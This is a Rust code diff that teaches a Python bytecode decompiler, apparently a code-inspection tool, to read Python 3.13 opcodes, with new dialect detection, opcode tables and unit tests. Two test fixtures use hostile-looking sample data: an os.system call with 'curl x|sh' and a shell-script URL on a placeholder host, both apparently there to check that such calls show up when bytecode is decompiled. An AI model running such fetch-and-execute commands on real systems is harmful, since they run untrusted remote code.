@@ -53,7 +53,9 @@ pub enum Dialect {
     Py311,
     /// Python 3.12: `LOAD_ATTR` carries the method bit, `RETURN_CONST`.
     Py312,
-    /// A version whose opcodes are not modelled (3.13+): only names and constants are shown.
+    /// Python 3.13: every opcode renumbered, `CALL_KW`, `SET_FUNCTION_ATTRIBUTE`.
+    Py313,
+    /// A version whose opcodes are not modelled (3.14+): only names and constants are shown.
     Unknown,
 }
 
@@ -67,6 +69,7 @@ pub fn dialect_of(code: &Code, version: Option<Version>) -> Dialect {
             (3, minor) if minor < 11 => Dialect::Py36,
             (3, 11) => Dialect::Py311,
             (3, 12) => Dialect::Py312,
+            (3, 13) => Dialect::Py313,
             _ => Dialect::Unknown,
         };
     }
@@ -90,6 +93,11 @@ pub fn dialect_of(code: &Code, version: Option<Version>) -> Dialect {
                 .map(|p| p.first().copied().unwrap_or(0))
                 .collect();
             let first = ops.iter().copied().find(|&op| !matches!(op, 0 | 135 | 149));
+            // RESUME is 149 in 3.13 (COPY_FREE_VARS in 3.11 and 3.12, which is always followed
+            // by their RESUME, 151).
+            if ops.first() == Some(&149) && first.is_some_and(|op| op != 151) {
+                return Dialect::Py313;
+            }
             if ops.contains(&166) {
                 Dialect::Py311
             } else if first == Some(151) {
@@ -158,6 +166,22 @@ enum Op {
     PrintItem,
     /// `DUP_TOP` (before 3.11) and `COPY n` (3.11+): Python 2's `exec code` duplicates `None`.
     Copy,
+    /// 3.13 `CALL_KW n`: keyword names are a tuple on the stack.
+    CallKw,
+    /// 3.13: `SET_FUNCTION_ATTRIBUTE` pops a default/closure under the function.
+    SetFunctionAttribute,
+    /// 3.13 `FORMAT_SIMPLE`: an f-string field.
+    FormatSimple,
+    /// 3.13 `FORMAT_WITH_SPEC`: an f-string field with a format spec.
+    FormatWithSpec,
+    /// 3.12+ `CALL_INTRINSIC_1`: `import *` and list-to-tuple among others.
+    CallIntrinsic1,
+    /// 3.13 superinstruction: two locals packed in one argument.
+    LoadFastLoadFast,
+    /// 3.13 superinstruction: two stores.
+    StoreFastStoreFast,
+    /// 3.13 superinstruction: a store then a load.
+    StoreFastLoadFast,
     /// Anything else: the stack is no longer known.
     Other,
 }
@@ -233,12 +257,56 @@ fn op_of(dialect: Dialect, opcode: u8) -> Op {
             127 if dialect == Dialect::Py312 => LoadFast,
             171 => Call,
             172 => KwNames,
+            173 if dialect == Dialect::Py312 => CallIntrinsic1,
             162 => ListExtend,
             82 if dialect == Dialect::Py311 => ListToTuple,
             other => common(other),
         },
+        Dialect::Py313 => match opcode {
+            0 | 30 | 34 | 40 | 60 | 62 | 94 | 149 => Nop,
+            5 => BinarySubscr,
+            14 => FormatSimple,
+            15 => FormatWithSpec,
+            24 => LoadBuildClass,
+            26 => MakeFunction,
+            32 => PopTop,
+            36 => ReturnValue,
+            45 => BinaryOperator,
+            47 => BuildList,
+            51 => BuildString,
+            52 => BuildTuple,
+            53 => Call,
+            54 => CallFunctionEx,
+            55 => CallIntrinsic1,
+            57 => CallKw,
+            61 => Copy,
+            74 => ImportFrom,
+            75 => ImportName,
+            81 => ListExtend,
+            82 => LoadAttr,
+            83 => LoadConst,
+            84 => LoadDeref,
+            85..=87 => LoadFast,
+            88 => LoadFastLoadFast,
+            91 => LoadGlobal,
+            92 => LoadName,
+            103 => ReturnConst,
+            106 => SetFunctionAttribute,
+            108 => StoreAttr,
+            109 => StoreDeref,
+            110 => StoreFast,
+            111 => StoreFastLoadFast,
+            112 => StoreFastStoreFast,
+            113 | 114 => StoreName,
+            _ => Other,
+        },
         Dialect::Unknown => Other,
     }
+}
+
+/// `EXTENDED_ARG` of a wordcode instruction set.
+fn extended_arg(dialect: Dialect) -> u8 {
+    if dialect == Dialect::Py313 { 71 } else { 144 }
 }
 
 /// One stack entry of the symbolic run.
@@ -481,7 +549,7 @@ impl Body<'_> {
     }
 
     fn deref(&self, index: usize) -> String {
-        if self.dialect == Dialect::Py311 || self.dialect == Dialect::Py312 {
+        if self.modern() {
             return self.local(index);
         }
         self.code
@@ -619,11 +687,7 @@ impl Body<'_> {
                 self.push(Item::Expr(name));
             }
             Op::LoadGlobal => {
-                let index = if matches!(self.dialect, Dialect::Py311 | Dialect::Py312) {
-                    arg >> 1
-                } else {
-                    arg
-                };
+                let index = if self.modern() { arg >> 1 } else { arg };
                 let name = self.name(index);
                 self.push(Item::Expr(name));
             }
@@ -636,7 +700,7 @@ impl Body<'_> {
                 self.push(Item::Expr(name));
             }
             Op::LoadAttr => {
-                let index = if self.dialect == Dialect::Py312 {
+                let index = if matches!(self.dialect, Dialect::Py312 | Dialect::Py313) {
                     arg >> 1
                 } else {
                     arg
@@ -785,6 +849,8 @@ impl Body<'_> {
                     }
                 }
                 let extras = match self.dialect {
+                    // 3.13 sets defaults and closures afterwards, with SET_FUNCTION_ATTRIBUTE.
+                    Dialect::Py313 => 0,
                     Dialect::Py36 | Dialect::Py311 | Dialect::Py312 => (arg & 0x0f).count_ones(),
                     _ => u32::try_from(arg & 0xff).unwrap_or(0) + u32::from(op == Op::MakeClosure),
                 };
@@ -798,11 +864,7 @@ impl Body<'_> {
             }
             Op::LoadBuildClass => self.push(Item::BuildClass),
             Op::Copy => {
-                let depth = if matches!(self.dialect, Dialect::Py311 | Dialect::Py312) {
-                    arg.max(1)
-                } else {
-                    1
-                };
+                let depth = if self.modern() { arg.max(1) } else { 1 };
                 let item = self
                     .stack
                     .len()
@@ -915,8 +977,80 @@ impl Body<'_> {
                 let value = self.text(&value);
                 out.emit(self.depth, Some(line), &format!("print({value})"));
             }
+            Op::CallKw => {
+                let names = self.pop();
+                let keys = match names {
+                    Item::Const(index) => {
+                        if let Some(slot) = self.used.get_mut(index) {
+                            *slot = true;
+                        }
+                        self.const_names(index)
+                    }
+                    _ => Vec::new(),
+                };
+                self.call_with_keywords(arg, keys);
+            }
+            Op::SetFunctionAttribute => {
+                let function = self.pop();
+                let _attribute = self.pop();
+                self.push(function);
+            }
+            Op::FormatSimple => {
+                let value = self.pop();
+                let value = self.text(&value);
+                self.push(Item::Expr(format!("str({value})")));
+            }
+            Op::FormatWithSpec => {
+                let _spec = self.pop();
+                let value = self.pop();
+                let value = self.text(&value);
+                self.push(Item::Expr(format!("str({value})")));
+            }
+            Op::CallIntrinsic1 => match arg {
+                2 => {
+                    if let Item::Import(module, _) = self.pop() {
+                        out.emit(self.depth, Some(line), &format!("from {module} import *"));
+                    }
+                    self.push(Item::Unknown);
+                }
+                6 => {
+                    let value = self.pop();
+                    let value = self.text(&value);
+                    self.push(Item::Expr(format!("tuple({value})")));
+                }
+                _ => self.flush(line, out),
+            },
+            Op::LoadFastLoadFast => {
+                let first = self.local(arg >> 4);
+                let second = self.local(arg & 0x0f);
+                self.push(Item::Expr(first));
+                self.push(Item::Expr(second));
+            }
+            Op::StoreFastStoreFast => {
+                let first = self.local(arg >> 4);
+                let value = self.pop();
+                self.store(first, value, line, out);
+                let second = self.local(arg & 0x0f);
+                let value = self.pop();
+                self.store(second, value, line, out);
+            }
+            Op::StoreFastLoadFast => {
+                let target = self.local(arg >> 4);
+                let value = self.pop();
+                self.store(target, value, line, out);
+                let loaded = self.local(arg & 0x0f);
+                self.push(Item::Expr(loaded));
+            }
             Op::BinaryOperator | Op::Other => self.flush(line, out),
         }
+    }
+
+    /// 3.11 and later: inline caches, `LOAD_GLOBAL`'s NULL bit, locals-plus numbering.
+    fn modern(&self) -> bool {
+        matches!(
+            self.dialect,
+            Dialect::Py311 | Dialect::Py312 | Dialect::Py313
+        )
     }
 
     fn const_names(&self, index: usize) -> Vec<String> {
@@ -1103,7 +1237,7 @@ fn instructions(bytecode: &[u8], dialect: Dialect) -> Vec<(usize, u8, usize)> {
             for (index, pair) in bytecode.chunks_exact(2).enumerate() {
                 let &[opcode, arg] = pair else { continue };
                 let arg = (extended << 8) | usize::from(arg);
-                if opcode == 144 {
+                if opcode == extended_arg(dialect) {
                     extended = arg & 0x00ff_ffff;
                     continue;
                 }
@@ -1138,7 +1272,7 @@ fn line_starts(code: &Code, dialect: Dialect) -> Vec<(usize, u32)> {
                 out.push((offset, clamp_line(line)));
             }
         }
-        Dialect::Py311 | Dialect::Py312 => {
+        Dialect::Py311 | Dialect::Py312 | Dialect::Py313 => {
             let mut at = 0usize;
             while let Some(&first) = table.get(at) {
                 at += 1;
@@ -1385,12 +1519,29 @@ mod tests {
     }
 
     #[test]
+    fn python313_opcodes() {
+        use build::*;
+        // RESUME; LOAD_CONST 0; LOAD_CONST None; IMPORT_NAME os; STORE_NAME os; LOAD_NAME os;
+        // LOAD_ATTR system (method bit) + caches; LOAD_CONST; CALL 1 + caches; POP_TOP;
+        // RETURN_CONST None.
+        let bytecode = [
+            149, 0, 83, 0, 83, 1, 75, 0, 114, 0, 92, 0, 82, 3, 0, 0, 0, 0, 83, 2, 53, 1, 0, 0, 32,
+            0, 103, 1,
+        ];
+        let consts = [int(0), none(), text("curl x|sh")];
+        let data = code(Layout::Py311, &bytecode, &consts, &["os", "system"]);
+        let (text, _) = render_bytes(&data);
+        assert!(text.contains("import os"), "{text}");
+        assert!(text.contains("os.system('curl x|sh')"), "{text}");
+    }
+
+    #[test]
     fn unknown_instruction_sets_still_show_names_and_strings() {
         use build::*;
-        // RESUME is 149 from 3.13 on, whose opcodes are not modelled.
+        // Neither 3.11/3.12's RESUME (151) nor 3.13's (149) first: not a modelled set.
         let data = code(
             Layout::Py311,
-            &[149, 0, 1, 0],
+            &[128, 0, 1, 0],
             &[text("https://x.invalid/a.sh")],
             &["os", "system"],
         );
